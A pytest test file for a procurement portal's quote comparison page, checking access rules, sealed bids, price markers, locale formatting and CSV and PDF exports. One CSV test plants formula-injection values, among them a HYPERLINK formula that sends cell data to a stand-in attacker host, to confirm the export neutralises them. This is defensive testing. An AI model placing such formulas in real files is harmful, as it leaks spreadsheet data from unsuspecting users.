"""The comparison page, its CSV and PDF exports: who may see them, sealed bids, markers, safety."""

from __future__ import annotations

import csv
import html
import io
import re
import shutil
import subprocess
from decimal import Decimal as D

import pytest
import sqlalchemy as sa

from portal.db import db
from portal.documents.models import StoredFile
from portal.documents.store import read_bytes
from portal.jobs.models import JobRecord, JobStatus
from tests import factories
from tests.accounts.helpers import _isolated_requests  # noqa: F401  (one app context per request)


def text(resp) -> str:
    return html.unescape(resp.get_data(as_text=True))


@pytest.fixture
def closed(world):
    r = factories.closed_rfq(
        world.buyer,
        world.procurement,
        suppliers=[world.supplier_a, world.supplier_b],
        quantities=[D("480"), D("200"), D("300")],
    )
    qa = factories.quote(
        r, world.supplier_a, world.sales_a, prices=["1.25", "2.00", "3.00"], shipping="40", moq=D("500")
    )
    for ql in qa.current_version.lines[1:]:
        ql.moq = None  # the MOQ applies to line 1 only
    db.session.commit()
    qb = factories.quote(
        r, world.supplier_b, world.sales_b, prices=["0.90", "2.10", "9"], declined=(2,), shipping="15"
    )
    return r, qa, qb


def url(r, suffix=""):
    return f"/rfqs/{r.id}/comparison{suffix}"


# ------------------------------------------------------------------------------------------ the page


def test_the_buyer_sees_the_matrix_with_best_markers_and_totals(world, login, closed):
    r, qa, qb = closed
    resp = login(world.procurement).get(url(r))
    assert resp.status_code == 200
    body = text(resp)
    assert "Supplier Alpha GmbH" in body and "Supplier Beta SAS" in body
    # line 1: A must order the MOQ of 500 at 1.25 = 625.00; B 480 x 0.90 = 432.00 is best
    assert "€625.00" in body and "Qty 500 pcs" in body and "€432.00" in body
    # line 2: A 400.00 best; line 3: B declined, A 900.00 best
    matrix = body[body.index('data-testid="matrix"') :]
    assert matrix.count('class="cell num best') == 3
    assert matrix.count("Best</span>") == 3  # a text marker, not only colour
    assert "Declined" in matrix and "Not in our range" in matrix
    # totals incl. shipping: A = 625 + 400 + 900 + 40 = 1965; B = 432 + 420 + 15 = 867 (incomplete)
    assert "€1,965.00" in body and "€867.00" in body
    assert "Complete" in body and "Incomplete" in body
    # summary: cheapest complete = A 1965; split = 432 + 400 + 900 + 40 + 15 = 1787, saving 178
    assert re.search(r'data-testid="cheapest-complete">€1,965.00', body)
    assert re.search(r'data-testid="cheapest-split">€1,787.00', body)
    assert re.search(r'data-testid="saving">€178.00', body)


def test_the_best_cell_is_highlighted_with_the_best_class(world, login, closed):
    r, qa, qb = closed
    body = text(login(world.procurement).get(url(r)))
    cells = re.findall(
        r'<td class="cell num( best)?[^"]*">\s*(?:<input[^>]*>)?\s*<div>([^<]+)</div>\s*'
        r'<div class="fw-semibold">([^<]+)</div>',
        body,
    )
    best_totals = sorted(total for best, _, total in cells if best)
    assert best_totals == ["€400.00", "€432.00", "€900.00"]


def test_expired_quotes_are_marked(world, login, closed):
    r, qa, qb = closed
    from datetime import timedelta

    from portal.db import utcnow

    qb.current_version.valid_until = utcnow().date() - timedelta(days=2)
    db.session.commit()
    body = text(login(world.procurement).get(url(r)))
    assert "Expired" in body and "not counted as best value and cannot be awarded" in body
    assert "Award all to Supplier Beta SAS" not in body


def test_an_empty_comparison_says_so(world, login):
    r = factories.closed_rfq(world.buyer, world.procurement)
    body = text(login(world.procurement).get(url(r)))
    assert "No quotes have been submitted for this RFQ yet." in body


@pytest.mark.parametrize("who", ["sales_a", "admin_a", "sales_b"])
def test_invited_suppliers_get_404(world, login, closed, who):
    r, _, _ = closed
    c = login(getattr(world, who))
    for resp in (c.get(url(r)), c.get(url(r, ".csv")), c.post(url(r, "/pdf"))):
        assert resp.status_code == 404


def test_another_buyer_gets_404(world, login, closed):
    r, _, _ = closed
    other = factories.company("buyer", name="Other Buyer AG")
    c = login(factories.user(other, "procurement", "admin"))
    for resp in (c.get(url(r)), c.get(url(r, ".csv")), c.post(url(r, "/pdf"))):
        assert resp.status_code == 404


def test_unknown_rfq_is_404(world, login):
    assert login(world.procurement).get("/rfqs/999999/comparison").status_code == 404


@pytest.mark.parametrize("who", ["approver", "buyer_accounts", "buyer_admin"])
def test_buyer_people_without_procurement_get_403(world, login, closed, who):
    r, _, _ = closed
    c = login(getattr(world, who))
    assert c.get(url(r)).status_code == 403
    assert c.get(url(r, ".csv")).status_code == 403


def test_signed_out_visitors_are_sent_to_sign_in(client, closed):
    r, _, _ = closed
    resp = client.get(url(r))
    assert resp.status_code == 302 and "/signin" in resp.headers["Location"]


# ------------------------------------------------------------------------------------------ sealed bids


@pytest.fixture
def sealed_open(world):
    r = factories.rfq(
        world.buyer,
        world.procurement,
        sealed=True,
        status="open",
        suppliers=[world.supplier_a, world.supplier_b],
    )
    factories.quote(
        r,
        world.supplier_a,
        world.sales_a,
        prices=["123.45", "678.90", "246.80"],
        shipping="77.70",
        breaks={0: [{"min_quantity": "1", "unit_price": "111.11"}]},
    )
    factories.quote(r, world.supplier_b, world.sales_b, prices=["135.79", "864.20", "975.31"], declined=(1,))
    return r


def test_sealed_bids_show_a_sentence_and_no_price(world, login, sealed_open):
    r = sealed_open
    resp = login(world.procurement).get(url(r))
    assert resp.status_code == 200
    body = text(resp)
    assert "Sealed bids: prices are revealed when the RFQ closes at" in body
    assert "2 quotes received so far." in body
    for price in (
        "123.45",
        "678.90",
        "246.80",
        "77.70",
        "111.11",
        "135.79",
        "864.20",
        "975.31",
        "12,345",
        "11,111",
        "€",
        "Not in our range",
        "Best",
    ):
        assert price not in body, price
    assert 'data-testid="matrix"' not in body


def test_sealed_bids_cannot_be_exported(world, login, sealed_open):
    r = sealed_open
    c = login(world.procurement)
    resp = c.get(url(r, ".csv"))
    assert resp.status_code == 302 and "123.45" not in text(resp)
    resp = c.post(url(r, "/pdf"))
    assert resp.status_code == 302 and resp.headers["Location"].endswith(url(r))
    assert db.session.scalar(sa.select(sa.func.count(JobRecord.id))) == 0
    assert "Sealed bids: prices are revealed" in text(c.get(url(r)))


def test_unsealed_open_rfq_shows_prices_but_not_the_award(world, login):
    r = factories.rfq(world.buyer, world.procurement, sealed=False, status="open")
    factories.quote(r, world.supplier_a, world.sales_a, prices=["123.45"] * 3)
    body = text(login(world.procurement).get(url(r)))
    assert "€123.45" in body
    assert "Close the RFQ first, then award it." in body
    assert "Award all to" not in body and "Award selected lines" not in body and 'type="radio"' not in body


def test_sealed_rfq_shows_prices_once_opened(world, login, closed):
    r, _, _ = closed
    assert r.sealed
    assert "€625.00" in text(login(world.procurement).get(url(r)))


# ------------------------------------------------------------------------------------------ CSV


def test_csv_export_has_every_cell_and_neutralises_formulas(world, login, closed):
    r, qa, qb = closed
    qb.current_version.lines[2].decline_reason = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    r.lines[1].description = "+SUM(A1:A9)"
    r.lines[0].part_number = "@cmd"
    db.session.commit()
    resp = login(world.procurement).get(url(r, ".csv"))
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    assert f'filename="{r.reference}-comparison.csv"' in resp.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(resp.get_data().decode("utf-8-sig"))))
    assert len(rows) == 6  # 3 lines x 2 quotes
    declined = next(row for row in rows if row["state"] == "declined")
    assert declined["decline_reason"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert {row["description"] for row in rows if row["line"] == "2"} == {"'+SUM(A1:A9)"}
    assert {row["part_number"] for row in rows if row["line"] == "1"} == {"'@cmd"}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@")) or value.startswith("'"), value
    a1 = next(row for row in rows if row["line"] == "1" and row["supplier"] == "Supplier Alpha GmbH")
    assert (a1["requested_qty"], a1["ordered_qty"], a1["unit_price"], a1["line_total"], a1["best"]) == (
        "480",
        "500",
        "1.25",
        "625.00",
        "",
    )
    assert "minimum order 500 pcs" in a1["note"]
    b1 = next(row for row in rows if row["line"] == "1" and row["supplier"] == "Supplier Beta SAS")
    assert (b1["unit_price"], b1["line_total"], b1["best"], b1["currency"]) == (
        "0.90",
        "432.00",
        "yes",
        "EUR",
    )


# ------------------------------------------------------------------------------------------ PDF job


def test_pdf_export_is_a_tracked_job_on_the_documents_queue(world, login, closed, run_jobs, app):
    r, _, _ = closed
    c = login(world.procurement)
    resp = c.post(url(r, "/pdf"))
    assert resp.status_code == 302
    rec = db.session.scalar(sa.select(JobRecord))
    assert resp.headers["Location"].endswith(f"/jobs/{rec.id}")
    assert (rec.kind, rec.queue, rec.status, rec.company_id, rec.user_id) == (
        "comparison-pdf",
        "documents",
        JobStatus.queued,
        world.buyer.id,
        world.procurement.id,
    )
    page = text(c.get(f"/jobs/{rec.id}"))
    assert "progress" in page and f"Comparison PDF · {r.reference}" in page

    run_jobs(["documents"])
    db.session.expire_all()
    rec = db.session.get(JobRecord, rec.id)
    assert rec.status == JobStatus.succeeded and rec.progress == 100 and rec.result_file_id
    f = db.session.get(StoredFile, rec.result_file_id)
    data = read_bytes(f)  # checks the stored SHA-256
    assert data.startswith(b"%PDF") and f.content_type == "application/pdf"
    assert f.owner_company_id == world.buyer.id and f.party_company_id is None
    assert f.filename == f"{r.reference}-comparison.pdf"
    job = c.get(f"/jobs/{rec.id}.json").get_json()
    assert job["status"] == "succeeded" and job["result_url"].endswith(f"/files/{f.id}")
    download = c.get(job["result_url"])
    assert download.status_code == 200 and download.data == data
    # suppliers cannot reach the job or the file
    s = login(world.sales_a)
    assert s.get(f"/jobs/{rec.id}").status_code == 404 and s.get(job["result_url"]).status_code == 404

    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext (poppler-utils) is not installed: the PDF's text is not checked")
    pdf_text = subprocess.run(
        ["pdftotext", "-layout", "-", "-"], input=data, capture_output=True, check=True
    ).stdout.decode()
    assert r.reference in pdf_text
    assert "€1,965.00" in pdf_text  # cheapest complete
    assert "€1,787.00" in pdf_text  # cheapest split
    assert "€178.00" in pdf_text  # saving
    assert "Page 1 of 1" in pdf_text


def test_the_pdf_of_an_awarded_rfq_shows_the_award(world, closed, run_jobs):
    from portal.quotes import award, comparison

    r, qa, qb = closed
    award.award_split(
        r, world.procurement, {r.lines[0].id: qb.id, r.lines[1].id: qa.id, r.lines[2].id: qa.id}
    )
    db.session.expire_all()
    r = db.session.get(type(r), r.id)
    snap = comparison.snapshot(comparison.build(r), r)
    assert snap["award"]["mode"] == "split" and snap["award"]["lines"] == 3
    assert [(row["supplier"], row["positions"], row["total"]) for row in snap["award"]["rows"]] == [
        ("Supplier Alpha GmbH", [2, 3], "1340.00"),
        ("Supplier Beta SAS", [1], "447.00"),
    ]
    rec = comparison.start_pdf(r, world.procurement)
    run_jobs(["documents"])
    db.session.expire_all()
    data = read_bytes(db.session.get(StoredFile, db.session.get(JobRecord, rec.id).result_file_id))
    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext (poppler-utils) is not installed: the PDF's text is not checked")
    pdf_text = subprocess.run(
        ["pdftotext", "-layout", "-", "-"], input=data, capture_output=True, check=True
    ).stdout.decode()
    assert "Split award: 3 of 3 lines" in pdf_text and "€1,340.00" in pdf_text and "€447.00" in pdf_text


def test_the_pdf_job_is_idempotent(world, closed, run_jobs):
    from portal.quotes import compare_jobs, comparison

    r, _, _ = closed
    rec = comparison.start_pdf(r, world.procurement)
    run_jobs(["documents"])
    db.session.expire_all()
    first = db.session.get(JobRecord, rec.id).result_file_id
    assert compare_jobs.comparison_pdf_job(r.id, rec.id) == first
    assert db.session.scalar(sa.select(sa.func.count(StoredFile.id))) == 1


def test_the_pdf_job_renders_from_a_snapshot_not_live_objects(world, closed, monkeypatch, run_jobs):
    from portal.quotes import compare_jobs, comparison

    seen = []

    def fake_render(template, snapshot):
        import json

        json.dumps(snapshot)  # plain data only
        seen.append((template, snapshot))
        return b"%PDF-1.7 fake"

    monkeypatch.setattr(compare_jobs, "render_pdf", fake_render)
    r, _, _ = closed
    rec = comparison.start_pdf(r, world.procurement)
    run_jobs(["documents"])
    assert seen and seen[0][0] == "comparison.html" and seen[0][1]["rfq"]["reference"] == r.reference
    db.session.expire_all()
    assert db.session.get(JobRecord, rec.id).status == JobStatus.succeeded


# ------------------------------------------------------------------------------------------ size


def _big(world, lines, suppliers):
    r = factories.closed_rfq(world.buyer, world.procurement, lines=lines)
    for i in range(suppliers):
        co = factories.company("supplier", name=f"Big Supplier {lines}-{i}")
        factories.quote(
            r,
            co,
            factories.user(co, "sales"),
            prices=[str(1 + (i + k) % 9) for k in range(lines)],
            declined=(2,),
        )
    return r


def test_page_queries_do_not_grow_with_lines_or_suppliers(world, login, count_queries):
    small, large = url(_big(world, 3, 2)), url(_big(world, 40, 6))
    c = login(world.procurement)
    counts = []
    for path in (small, large):
        c.get(path)  # warm up
        with count_queries() as q:
            resp = c.get(path)
        assert resp.status_code == 200
        counts.append(q.count)
    assert counts[0] == counts[1], counts


# ------------------------------------------------------------------------------------------ formatting


def test_the_fast_cell_formatter_matches_the_template_filters():
    from portal.documents.render import format_unit_price
    from portal.money import format_money, format_quantity
    from portal.quotes.compare_views import Formatter

    for locale in ("en_GB", "de_DE", "fr_FR", "de_CH", "pl_PL", "sv_SE", "en_IN", "ar_EG"):
        for currency in ("EUR", "JPY", "CHF", "KWD", "PLN"):
            f = Formatter(currency, locale)
            for v in (
                "0",
                "1",
                "12.5",
                "1234.56",
                "1234567.89",
                "0.1234",
                "12.3456",
                "99999999.9999",
                "-12.50",
                "1000000",
                "0.5",
                "480",
                "1.2",
            ):
                d = D(v)
                assert f.money(d) == format_money(d, currency, locale), (locale, currency, v)
                assert f.unit(d) == format_unit_price(d, currency, locale), (locale, currency, v)
                assert f.qty(d) == format_quantity(d, locale), (locale, v)
            assert f.money(None) == f.unit(None) == f.qty(None) == "—"


def test_the_page_follows_the_users_locale(world, login, closed):
    r, _, _ = closed
    world.procurement.locale = "de_DE"
    db.session.commit()
    body = text(login(world.procurement).get(url(r)))
    assert "625,00\xa0€" in body and "1.965,00\xa0€" in body and "Qty 500 pcs" in body


def _bulk_rfq(world, n_lines, n_suppliers):
    """A closed RFQ with n_lines x n_suppliers quote lines, bulk inserted (factories are too slow here)."""
    from datetime import timedelta

    from portal.db import utcnow
    from portal.quotes.models import Quote, QuoteLine, QuoteVersion
    from portal.quotes.states import QuoteStatus
    from portal.rfq.models import RfqLine

    r = factories.closed_rfq(world.buyer, world.procurement, lines=1)
    db.session.execute(
        sa.insert(RfqLine),
        [
            dict(
                rfq_id=r.id,
                position=i + 2,
                description=f"Bulk item {i + 2}",
                quantity=D(10 + i % 50),
                unit="pcs",
                notes="",
            )
            for i in range(n_lines - 1)
        ],
    )
    line_ids = list(db.session.scalars(sa.select(RfqLine.id).where(RfqLine.rfq_id == r.id)))
    now = utcnow()
    for k in range(n_suppliers):
        co = factories.company("supplier", name=f"Bulk Supplier {n_lines}-{k:02d}")
        u = factories.user(co, "sales")
        qid = db.session.execute(
            sa.insert(Quote).returning(Quote.id),
            [
                dict(
                    rfq_id=r.id,
                    supplier_company_id=co.id,
                    status=QuoteStatus.submitted,
                    submitted_at=now,
                    created_by_id=u.id,
                    lock_version=1,
                    needs_reconfirmation=False,
                    created_at=now,
                    updated_at=now,
                )
            ],
        ).scalar_one()
        vid = db.session.execute(
            sa.insert(QuoteVersion).returning(QuoteVersion.id),
            [
                dict(
                    quote_id=qid,
                    number=1,
                    submitted_at=now,
                    submitted_by_id=u.id,
                    created_by_id=u.id,
                    created_at=now,
                    valid_until=(now + timedelta(days=9)).date(),
                    delivery_terms="",
                    shipping_cost=D(k),
                    notes="",
                    rfq_amendment_no=0,
                )
            ],
        ).scalar_one()
        db.session.execute(
            sa.insert(QuoteLine),
            [
                dict(
                    version_id=vid,
                    rfq_line_id=lid,
                    unit_price=D("1.00") + D((i * 7 + k * 13) % 97) / 100,
                    price_breaks=[],
                    lead_time_days=5 + (i + k) % 20,
                    declined=False,
                )
                for i, lid in enumerate(line_ids)
            ],
        )
        db.session.execute(sa.update(Quote).where(Quote.id == qid).values(current_version_id=vid))
    db.session.commit()
    return r


@pytest.mark.slow
def test_500_lines_by_20_suppliers_render_on_one_page(world, login, count_queries):
    """All lines on one page (the split award form needs every line in one form), with constant queries."""
    small, big = url(_bulk_rfq(world, 5, 2)), url(_bulk_rfq(world, 500, 20))
    c = login(world.procurement)
    c.get(small)
    with count_queries() as q_small:
        assert c.get(small).status_code == 200
    with count_queries() as q_big:
        resp = c.get(big)
    assert resp.status_code == 200 and q_big.count == q_small.count
    body = resp.get_data(as_text=True)
    matrix = body[body.index('data-testid="matrix"') :]
    assert matrix.count('<th scope="row" class="sticky-col">') == 500 + 1  # 500 lines + the totals row
    assert matrix.count('<th scope="col" class="num">') == 20
    assert matrix.count('value="none"') == 500  # every line can be left unawarded
    assert matrix.count("Best</span>") == 500
